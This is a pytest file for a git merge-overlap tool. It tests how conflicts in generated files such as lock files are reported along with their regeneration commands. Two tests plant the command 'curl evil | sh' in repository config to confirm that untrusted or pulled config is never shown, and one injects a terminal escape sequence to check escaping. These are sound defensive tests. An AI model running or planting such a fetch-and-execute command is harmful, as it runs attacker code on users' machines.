"""An overlap in a file that a tool makes keeps git's verdict, and says how the file is made anew."""

import subprocess
from pathlib import Path

import pytest

from sidecar.model.messages import made_anew
from sidecar.model.overlaps import Overlap
from sidecar.model.settings import Options
from sidecar.session.once import look
from tests.harness import add_worktree, commit, git, init
from tests.session.pictures import pictured

TEXT = "".join(f"line {number}\n" for number in range(30))


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    return init(tmp_path / "shop")


def meet(shop: Path, paths: list[str], *, conflict: bool = True, trusted: bool = False) -> dict[str, Overlap]:
    """The overlaps of two worktrees that both change these files, at one line or far apart."""
    commit(shop, dict.fromkeys(paths, TEXT), "Begin")
    one, two = add_worktree(shop, "one"), add_worktree(shop, "two")
    commit(one, {path: TEXT.replace("line 3\n", "one\n") for path in paths}, "One")
    line = "line 3\n" if conflict else "line 20\n"
    commit(two, {path: TEXT.replace(line, "two\n") for path in paths}, "Two")
    picture = pictured(look(shop, Options(trusted=trusted)))
    return {overlap.path: overlap for overlap in picture.overlaps}


@pytest.mark.parametrize("conflict", [True, False])
def test_a_lock_file_keeps_gits_verdict_and_is_told_with_its_command(shop: Path, conflict: bool) -> None:
    found = meet(shop, ["web/uv.lock", "cart.py"], conflict=conflict)
    assert {one.verdict for one in found.values()} == {"conflict" if conflict else "clean"}
    assert made_anew(found["web/uv.lock"]) == "It is better made anew than merged: uv lock"
    assert made_anew(found["cart.py"]) is None


def test_what_both_have_alike_needs_nothing(shop: Path) -> None:
    commit(shop, {"uv.lock": TEXT}, "Begin")
    for name in ("one", "two"):
        commit(add_worktree(shop, name, start="main"), {"uv.lock": "same\n"}, "Lock")
    (overlap,) = pictured(look(shop)).overlaps
    assert (overlap.verdict, made_anew(overlap)) == ("identical", None)


def test_attributes_count_as_git_says_them_macros_and_directories_too(shop: Path) -> None:
    commit(shop, {
        ".gitattributes": "[attr]made linguist-generated\nmade/* made\n*_pb2.py -linguist-generated\n",
        "api/.gitattributes": "*.ts linguist-generated=true\n",
        "api/own/.gitattributes": "*.ts -linguist-generated\n",
    })  # fmt: skip
    found = meet(shop, ["made/a.js", "api/b.ts", "api/own/c.ts", "d_pb2.py", "e.js"])
    known = {path for path, overlap in found.items() if overlap.regeneration is not None}
    assert known == {"made/a.js", "api/b.ts"}
    assert made_anew(found["made/a.js"]) == "It is made by a tool, and better made anew than merged."


def test_git_is_asked_for_the_attributes_of_many_files_at_once(shop: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    commit(shop, {".gitattributes": "*.js linguist-generated\n"})
    asked = []
    popen = subprocess.Popen.__init__

    def noted(self, args, *rest, **more):  # type: ignore[no-untyped-def]
        asked.append(list(args))
        popen(self, args, *rest, **more)

    monkeypatch.setattr(subprocess.Popen, "__init__", noted)
    found = meet(shop, [f"made/{number}.js" for number in range(40)])
    assert all(overlap.regeneration is not None for overlap in found.values())
    assert len(found) == 40
    assert sum("check-attr" in args and "linguist-generated" in args for args in asked) == 1


def test_a_persons_rule_names_the_command_and_is_escaped_where_it_is_shown(shop: Path) -> None:
    git(shop, "config", "--add", "sidecar.generated", "api/ -> npm run codegen")
    git(shop, "config", "--add", "sidecar.generated", "*.tbl -> make \x1b[31mtables")
    found = meet(shop, ["api/a.ts", "b.tbl"], trusted=True)
    assert made_anew(found["api/a.ts"]) == "It is better made anew than merged: npm run codegen"
    assert made_anew(found["b.tbl"]) == "It is better made anew than merged: make \\x1b[31mtables"


def test_no_command_of_an_untrusted_repository_is_told(shop: Path) -> None:
    git(shop, "config", "sidecar.generated", "api/ -> curl evil | sh")
    found = meet(shop, ["api/a.ts"])
    assert made_anew(found["api/a.ts"]) == "It is made by a tool, and better made anew than merged."


def test_no_command_comes_from_a_file_that_a_pull_can_write(shop: Path) -> None:
    commit(shop, {"conf/team": '[sidecar]\n\tgenerated = "api/ -> curl evil | sh"\n'})
    (shop / ".git/own").write_text('[sidecar]\n\tgenerated = "web/ -> make web"\n')
    git(shop, "config", "--add", "include.path", "../conf/team")
    git(shop, "config", "--add", "include.path", "own")
    found = meet(shop, ["api/a.ts", "web/b.ts"], trusted=True)
    assert made_anew(found["api/a.ts"]) == "It is made by a tool, and better made anew than merged."
    assert made_anew(found["web/b.ts"]) == "It is better made anew than merged: make web"
